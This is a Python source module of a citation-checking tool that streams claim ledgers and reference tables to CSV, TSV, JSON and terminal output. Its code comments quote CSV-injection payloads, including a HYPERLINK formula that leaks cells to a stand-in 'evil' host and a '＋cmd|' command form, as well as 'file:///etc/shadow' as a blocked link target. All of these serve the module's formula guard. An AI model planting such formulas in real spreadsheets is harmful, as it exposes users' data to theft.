"""Writers turn ledgers into formats. A writer never parses or classifies.

Every writer streams: `begin()`, then `write(event)` for each event of each document as it is
produced (`ledger.DocumentStart`, `Records`, `DocumentEnd`: a document read whole or in parts
is the same stream), then `end(summary)`; `document(ledger)` writes a whole ledger's events. A
writer that needs a document whole (`whole_documents`: the report) collects its events first.
CSV and TSV use the `excel` dialect (tab-delimited for TSV); list-valued cells are joined with
`;` (`citations` = `2;3;4`, `markers` = `[2-4];[7]`).

Two tables can be written: the claim ledger (`LEDGER`, one row a sentence) and the reference
table (`REFERENCES`, one row a reference-list entry, for `claimtrace references`). Each carries
its row schema (`ledger.RECORD_FIELDS`, `ledger.REFERENCE_FIELDS`), from which every format's
columns, cells and types derive: a writer never lists fields itself.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import sys
import tempfile
import unicodedata
from contextlib import contextmanager
from dataclasses import dataclass
from functools import cached_property
from importlib import import_module
from typing import IO, Any, Callable, Iterable, Iterator

from ..defaults import Format
from ..errors import OutputError, UsageError
from ..kinds import Kind
from ..fields import SHEET, Field, Schema
from ..ledger import (
    RECORD_FIELDS, REFERENCE_FIELDS, DocumentEnd, DocumentLedger, DocumentStart, Event, Record, Records, Summary,
    collect, document_dict, ledger_rows,
)
from ..text import printable, without_surrogates


# `Format` lives in `defaults` (the command line reads it without importing the writers).


@dataclass(frozen=True)
class Table:
    """Which rows of a document a writer writes, and their schema (`fields.py`): the flat rows
    (CSV), the dicts (JSON), the Parquet schema and the workbook's columns all derive from it.
    The schema's `context` fields (a reference's `doc`) are taken from the `DocumentStart`."""

    name: str  # "ledger" (one row a sentence) or "references" (one row an entry)
    schema: Schema
    rows: Callable[[Event, bool], list]  # the rows an event brings (`include_all`: every record)
    key: str  # where a JSON document holds its rows

    @property
    def is_ledger(self) -> bool:
        return self.name == "ledger"

    @cached_property
    def columns(self) -> tuple[str, ...]:
        """The CSV/TSV header."""
        return self.schema.columns()

    def flat(self, start: DocumentStart | DocumentLedger, row: Any) -> dict[str, Any]:
        """`row` of the document `start` begins, as one CSV row."""
        if not self.schema.context:
            return self.schema.flat(row)
        return {**{f.name: f.type.flat(getattr(start, f.name)) for f in self.schema.context}, **self.schema.flat(row)}

    def as_dict(self, start: DocumentStart | DocumentLedger, row: Any) -> dict[str, Any]:
        """`row` of the document `start` begins, as one JSON object."""
        if not self.schema.context:
            return self.schema.as_dict(row)
        return {**{f.name: f.type.json(getattr(start, f.name)) for f in self.schema.context}, **self.schema.as_dict(row)}

    def document(self, start: DocumentStart, end: DocumentEnd) -> dict[str, Any]:
        """One document in JSON output, its rows (at `key`) left empty."""
        if self.is_ledger:
            return document_dict(start, end.summary, [], end.references, end.integrity)
        return {"doc": start.doc, "references": [], "integrity": end.integrity.to_dict() if end.integrity else None}

    def arrow(self, pa: Any) -> Any:
        """The Parquet schema."""
        return pa.schema(self.schema.arrow_fields(pa))

    @cached_property
    def sheet_fields(self) -> tuple[Field, ...]:
        """The workbook's columns."""
        return self.schema.in_view(SHEET)


def _record_rows(event: Event, include_all: bool) -> list:
    return ledger_rows(event.records, include_all) if isinstance(event, Records) else []


def _reference_rows(event: Event, include_all: bool) -> list:
    return list(event.references) if isinstance(event, DocumentEnd) else []


# The claim ledger's rows come with a document's records; the reference table's with its end.
LEDGER = Table("ledger", RECORD_FIELDS, _record_rows, "records")
REFERENCES = Table("references", REFERENCE_FIELDS, _reference_rows, "references")
# Flat columns of CSV/TSV output, in order.
COLUMNS = LEDGER.columns
REFERENCE_COLUMNS = REFERENCES.columns


@dataclass(frozen=True)
class WriteOptions:
    """How rows are written, whatever the format."""

    include_all: bool = False  # every record, not only claims, cited and flagged ones
    raw_cells: bool = False  # CSV/TSV: cells as they are, without the formula guard
    bom: bool = False  # CSV/TSV: a UTF-8 byte-order mark first, so Excel reads non-ASCII text right
    wide: bool = False  # table: every column and the whole text, however wide the terminal


@contextmanager
def temporary_files(folder: str | None = None) -> Iterator[None]:
    """A writer's work in its temporary files (`folder`, else TMPDIR): a full or read-only
    temporary folder is said as such, not blamed on `-o` (or on stdout), which may have room."""
    try:
        yield
    except OSError as exc:
        where = folder or tempfile.gettempdir()
        raise OutputError(f"temporary folder {where}: cannot write ({exc.strerror or exc}); "
                          "set TMPDIR to a folder with room") from None


class SafeText:
    """A text stream that never fails on a lone surrogate (`text.without_surrogates`): a write
    the stream cannot encode is written again with U+FFFD in their place, and counted. Costs
    nothing until it happens (a text stream encodes a write whole before it writes any of it)."""

    def __init__(self, stream: IO[str]):
        self.stream = stream
        self.replaced = 0

    def write(self, text: str) -> int:
        try:
            return self.stream.write(text)
        except UnicodeEncodeError:
            text, count = without_surrogates(text)
            self.replaced += count
            return self.stream.write(text)

    def __getattr__(self, name: str) -> Any:  # flush, isatty, fileno, encoding: the stream's
        return getattr(self.stream, name)


def scrubbed(value: Any) -> tuple[Any, int]:
    """`value` (a row: dicts, lists, strings) with lone surrogates replaced, and how many."""
    if isinstance(value, str):
        return without_surrogates(value)
    if isinstance(value, dict):
        pairs = [(k, scrubbed(v)) for k, v in value.items()]
        return {k: v for k, (v, _) in pairs}, sum(n for _, (_, n) in pairs)
    if isinstance(value, (list, tuple)):
        items = [scrubbed(v) for v in value]
        return [v for v, _ in items], sum(n for _, n in items)
    return value, 0


class Writer:
    """Base writer: subclasses write rows (`write_rows`) and may mark where a document starts and
    ends (`start_document`, `end_document`). `binary` writers get a byte stream.

    A lone surrogate in a ledger (not a character; see `text.without_surrogates`) is written as
    U+FFFD by every writer; `replaced` says how many were."""

    binary = False
    whole_documents = False  # needs each document whole (see `WholeDocumentWriter`)
    # The format's name when it can show the claim ledger only (the terminal table, the report).
    ledger_only: str | None = None

    @classmethod
    def check(cls, table: Table = LEDGER) -> None:
        """Raise `UsageError` when this format cannot write `table` here (a view made for the
        claim ledger, a missing extra). `make_writer` calls it before anything is written."""
        if cls.ledger_only and not table.is_ledger:
            others = ", ".join(f.value for f, row in WRITERS.items() if not row.ledger_only)
            raise UsageError(f"the {cls.ledger_only} format shows the claim ledger only; choose from: {others}")

    def __init__(self, stream: IO, table: Table = LEDGER, options: WriteOptions = WriteOptions()):
        self.stream: Any = stream if self.binary else SafeText(stream)
        self._replaced = 0  # by a binary writer itself
        self.table = table
        self.options = options
        self.include_all = options.include_all
        self.start: DocumentStart | None = None  # the document begun last

    @property
    def replaced(self) -> int:
        """How many lone surrogates were written as U+FFFD."""
        return self._replaced + getattr(self.stream, "replaced", 0)

    def begin(self) -> None:
        pass

    def write(self, event: Event) -> None:
        """One event of a document: its start, some of its records, its end."""
        if isinstance(event, DocumentStart):
            self.start = event
            self.start_document(event)
            return
        rows = self.table.rows(event, self.include_all)
        if rows:
            self.write_rows(rows)
        if isinstance(event, DocumentEnd):
            self.end_document(event)

    def document(self, ledger: DocumentLedger) -> None:
        """A whole document."""
        for event in ledger.events():
            self.write(event)

    def start_document(self, start: DocumentStart) -> None:
        pass

    def write_rows(self, rows: list[Any]) -> None:
        """Rows of `self.table` of the document begun last (`self.start`)."""
        raise NotImplementedError

    def end_document(self, end: DocumentEnd) -> None:
        pass

    def end(self, summary: Summary) -> None:
        pass

    def close(self) -> None:
        """Remove what the writer keeps outside memory (the workbook's temporary files), whether
        or not the run got to `end`: a stopped run (Ctrl-C) leaves nothing in the temporary
        directory. Nothing for most writers."""


class WholeDocumentWriter(Writer):
    """A writer that needs each document whole (the report draws a document's claims with its
    entries): it collects a document's events and writes the `DocumentLedger` (`document`) at
    its end. A run reads documents whole for it. (The workbook, which links claims to entries
    written before them, spools its rows to disk instead: `writers/xlsx.py`.)"""

    whole_documents = True

    def write(self, event: Event) -> None:
        if isinstance(event, DocumentStart):
            self._held: list[Event] = []
        self._held.append(event)
        if isinstance(event, DocumentEnd):
            held, self._held = self._held, []
            self.document(collect(held))

    def document(self, ledger: DocumentLedger) -> None:
        raise NotImplementedError


# What becomes a hyperlink, in every format that makes links (the report, the workbook): a web
# address (http, https) with no white space or control character in it (they would make a
# sheet's relationships file ill-formed XML: Excel offers to repair it, openpyxl cannot open it),
# or a DOI (`10.…/…`, `doi:10.…`) through doi.org. Anything else (`javascript:`, `data:`,
# `file:///etc/shadow`, `mailto:`) stays text. Addresses are taken as the readers wrote them
# (they already made `//host/…` and `www.…` https), never rewritten here.
_WEB_ADDRESS = re.compile(r"https?://[^\x00-\x20\x7f-\x9f\ud800-\udfff]+\Z", re.IGNORECASE)


def link_target(url: str) -> str | None:
    """Where a link to `url` may point, or None when it gets no link."""
    url = url.strip()
    if url[:4].lower() == "doi:":
        url = url[4:].strip()
    if url.startswith("10.") and "/" in url:
        url = "https://doi.org/" + url
    return url if _WEB_ADDRESS.match(url) else None


# A cell starting with one of these is run as a formula by spreadsheets (CSV injection, OWASP):
# `=HYPERLINK("http://evil/?"&A2, "See source [1]")` in a sentence would leak the sheet. Their
# full-width and small forms too (`＝HYPERLINK(…)`, `＠SUM(1)`, `﹦5+5`, `＋cmd|…`): spreadsheets
# fold some of them to ASCII on import. Every character whose compatibility form is one of them.
_FORMULA_SIGNS = "=+-@"
_FORMULA_START = frozenset({"\t", "\r", *_FORMULA_SIGNS, *(
    c for c in map(chr, [*range(0x2070, 0x20A0), *range(0xFE50, 0xFE70), *range(0xFF00, 0xFF60)])
    if unicodedata.normalize("NFKC", c) in _FORMULA_SIGNS and unicodedata.normalize("NFKC", c)
)})
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def safe_cell(value: Any) -> Any:
    """A cell that no spreadsheet runs as a formula: OWASP's advice, a leading `'` before a
    text cell that starts with `=`, `+`, `-`, `@` (or a full-width or small form of one), a tab
    or a carriage return, also after leading spaces (` =1+1`, which spreadsheets trim). Plain
    numbers (`-0.5`) stay numbers. Every text cell, `doc` and `id` included."""
    if not isinstance(value, str) or not value:
        return value
    first = value[0]
    if first.isspace() and first not in "\t\r":
        first = value.lstrip()[:1]
    if first in _FORMULA_START and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_cells(values: Iterable[Any]) -> list[Any]:
    """`safe_cell` of each value of a row; a cell whose first character cannot start a formula
    (most cells: numbers, empty cells, words) is passed on without the call."""
    return [safe_cell(v) if isinstance(v, str) and v and (v[0] in _FORMULA_START or v[0].isspace()) else v
            for v in values]


class DelimitedWriter(Writer):
    """CSV (`excel` dialect) or TSV (`excel-tab`), one row a record, header first.

    Cells are made safe for spreadsheets (`safe_cell`) unless `raw_cells` is set.
    """

    def __init__(self, stream, table=LEDGER, options=WriteOptions(), dialect="excel"):
        super().__init__(stream, table, options)
        self.writer = csv.writer(self.stream, dialect=dialect)
        self.columns = table.columns
        self.raw_cells = options.raw_cells

    def begin(self):
        if self.options.bom:
            self.stream.write("\ufeff")
        self.writer.writerow(self.columns)

    def write_rows(self, rows):
        columns, width = self.columns, len(self.columns)
        for row in rows:
            flat = self.table.flat(self.start, row)
            if len(flat) != width:  # a cell with no column would be lost
                raise ValueError(f"row cells {sorted(flat)} are not the columns {columns}")
            cells = [flat[c] for c in columns]
            self.writer.writerow(cells if self.raw_cells else safe_cells(cells))


class JsonLinesWriter(Writer):
    """One JSON object a record, one record a line."""

    def write_rows(self, rows):
        for row in rows:
            self.stream.write(json.dumps(self.table.as_dict(self.start, row), ensure_ascii=False) + "\n")


class JsonWriter(Writer):
    """`{"documents": [...], "summary": {...}}`, each document written as soon as it ends.

    A document's counts come before its records in the JSON but are known at its end: its rows
    are kept, already written out, in a spooled temporary file (memory up to `SPOOL` bytes, then
    disk) until then, so a document read in parts gives the bytes `json.dumps(document,
    indent=2)` gives for it whole.
    """

    SPOOL = 8 << 20
    # Stands for a document's rows while the rest of it is rendered (control characters are
    # always escaped in JSON, so no document text can look like it).
    _ROWS = "\x00rows\x00"

    def begin(self):
        self.count = 0
        self.stream.write('{"documents": [')

    def start_document(self, start):
        # `surrogatepass`: a lone surrogate is kept as it is, to be replaced (and counted) when
        # the rows are copied to the output (`SafeText`)
        self.spool = tempfile.SpooledTemporaryFile(self.SPOOL, mode="w+", encoding="utf-8", errors="surrogatepass")
        self.rows_spooled = 0

    def write_rows(self, rows):
        as_dict = self.table.schema.as_dict  # within its document: no `doc` on each row
        with temporary_files():  # past `SPOOL` bytes the rows go to a file in TMPDIR
            for row in rows:
                # a row as `json.dumps(document, indent=2)` writes it: two levels in
                text = json.dumps(as_dict(row), ensure_ascii=False, indent=2).replace("\n", "\n    ")
                self.spool.write(("," if self.rows_spooled else "") + "\n    " + text)
                self.rows_spooled += 1

    def end_document(self, end):
        """The document, its rows from the spool."""
        document = self.table.document(self.start, end)
        document[self.table.key] = self._ROWS if self.rows_spooled else []
        head, _, tail = json.dumps(document, ensure_ascii=False, indent=2).partition(json.dumps(self._ROWS))
        self.stream.write(("," if self.count else "") + "\n" + head)
        self.count += 1
        if self.rows_spooled:
            self.stream.write("[")
            self.spool.seek(0)
            shutil.copyfileobj(self.spool, self.stream)
            self.stream.write("\n  ]")
        self.stream.write(tail)
        self.spool.close()

    def end(self, summary):
        self.stream.write(("\n" if self.count else "") + '], "summary": ')
        self.stream.write(json.dumps(summary.to_dict()) + "}\n")


class TableWriter(Writer):
    """Rich tables for people reading a terminal; not meant for machines.

    A document's rows go out in tables of `CHUNK` rows with fixed column widths, so that a long
    document streams (and `| head` stops it early) instead of being rendered whole first.
    Control characters in document names and text are shown escaped.
    """

    ledger_only = "table"
    CHUNK = 50
    # (name, style, width): fixed, so that the chunks of one document line up. By default one
    # line a record, the text cut with an ellipsis to fit the terminal (80 columns in a pipe);
    # `--wide` adds the section, `why`, sources and flags and wraps every cell.
    COLUMNS = (("#", "dim", 4), ("kind", "cyan", 11), ("claim", None, 5), ("score", None, 5),
               ("cites", "magenta", 7), ("text", None, None))
    WIDE = (("#", "dim", 5), ("section", "dim", 14), ("kind", "cyan", 11), ("claim", None, 5),
            ("score", None, 5), ("cites", "magenta", 6), ("text", None, None), ("why", "dim", 22),
            ("sources", "magenta", 20), ("flags", "red", 8))

    def begin(self):
        from ..terminal import console

        self.console = console(file=self.stream)  # a closed pipe raises BrokenPipeError
        if self.options.wide:  # every column: as wide as the terminal, and never under 160
            self.console = console(file=self.stream, width=max(160, self.console.width))

    def start_document(self, start):
        self.titled = False
        self.held: list[Record] = []

    def write_rows(self, rows):
        """Rows in tables of `CHUNK`: the last few wait for more (or for the document's end), so
        that a document read in parts is drawn as it is read whole."""
        self.held.extend(rows)
        chunks = len(self.held) // self.CHUNK * self.CHUNK
        if chunks:
            self._tables(self.held[:chunks])
            del self.held[:chunks]

    def end_document(self, end):
        if self.held or not self.titled:  # a document without rows: its title alone
            self._tables(self.held)
        self.held = []

    def _tables(self, rows: list[Record]) -> None:
        from rich.markup import escape
        from rich.table import Table

        wide = self.options.wide
        for first in range(0, max(len(rows), 1), self.CHUNK):
            top = not self.titled  # the document's title once, over its first table
            self.titled = True
            title = escape(printable(self.start.doc)) if top and self.start is not None else None
            table = Table(title=title,
                          expand=True, show_header=top, padding=(0, 1) if wide else (0, 0))
            for name, style, width in self.WIDE if wide else self.COLUMNS:
                table.add_column(name, style=style, overflow="fold" if wide else "ellipsis", width=width,
                                 min_width=width, no_wrap=not wide, ratio=None if width else 1)
            for r in rows[first : first + self.CHUNK]:
                cells = self._cells(r, escape)
                if wide:
                    number, kind, claim, score, cites, text = cells
                    cells = (number, escape(printable(r.section or "")), kind, claim, score, cites, text,
                             escape(printable(r.why)), escape(printable(" | ".join(r.sources))), ", ".join(r.flags))
                table.add_row(*cells)
            self.console.print(table)

    @staticmethod
    def _cells(r: Record, escape: Callable[[str], str]) -> tuple[str, ...]:
        claim = "[green]yes[/]" if r.is_claim else ("" if r.kind is Kind.HEADING else "no")
        cites = ",".join(map(str, r.citations)) or ("[red]none[/]" if r.is_claim else "")
        # Escaped: the text holds `[1]`-style markers that rich would read as markup.
        text = escape(printable(r.text))
        return (r.id.rsplit("#", 1)[-1], r.kind.value, claim, "–" if r.score is None else f"{r.score:.2f}", cites,
                f"[bold]{text}[/]" if r.kind is Kind.HEADING else text)


@dataclass(frozen=True)
class WriterRow:
    """One output format's writer: its class (`module.name`, imported on first use: the
    workbook, the report and Parquet need libraries of their own) and its keyword options."""

    module: str  # "" for this module, else a module of this package (".xlsx")
    name: str
    options: tuple[tuple[str, str], ...] = ()
    ledger_only: bool = False  # a view of the claim ledger only (the terminal table, the report)


# Every output format's writer. Dispatch (`writer_class`, `make_writer`) and the "choose from"
# of a format that cannot write a table derive from it. Where a new writer goes: a `Writer`
# subclass, a `Format` member and a row here.
WRITERS: dict[Format, WriterRow] = {
    Format.csv: WriterRow("", "DelimitedWriter"),
    Format.tsv: WriterRow("", "DelimitedWriter", (("dialect", "excel-tab"),)),
    Format.xlsx: WriterRow(".xlsx", "WorkbookWriter"),
    Format.parquet: WriterRow(".parquet", "ParquetWriter"),
    Format.html: WriterRow(".report", "ReportWriter", ledger_only=True),
    Format.jsonl: WriterRow("", "JsonLinesWriter"),
    Format.json: WriterRow("", "JsonWriter"),
    Format.table: WriterRow("", "TableWriter", ledger_only=True),
}


def writer_class(fmt: Format) -> type[Writer]:
    """The writer of `fmt` (so a caller can tell a binary format before opening the output)."""
    row = WRITERS[fmt]
    module = import_module(row.module, __package__) if row.module else sys.modules[__name__]
    return getattr(module, row.name)


def make_writer(fmt: Format, stream: IO, table: Table = LEDGER, options: WriteOptions = WriteOptions()) -> Writer:
    """The writer for `fmt` writing `table` (the claim ledger by default) to `stream`."""
    cls = writer_class(fmt)
    cls.check(table)
    return cls(stream, table, options, **dict(WRITERS[fmt].options))


def format_for_path(path: str) -> Format | None:
    """The format a file name's extension implies (`out.tsv` → tsv), or None."""
    suffix = path.rsplit(".", 1)[-1].lower() if "." in path else ""
    return {f.value: f for f in Format if f is not Format.table}.get(suffix)
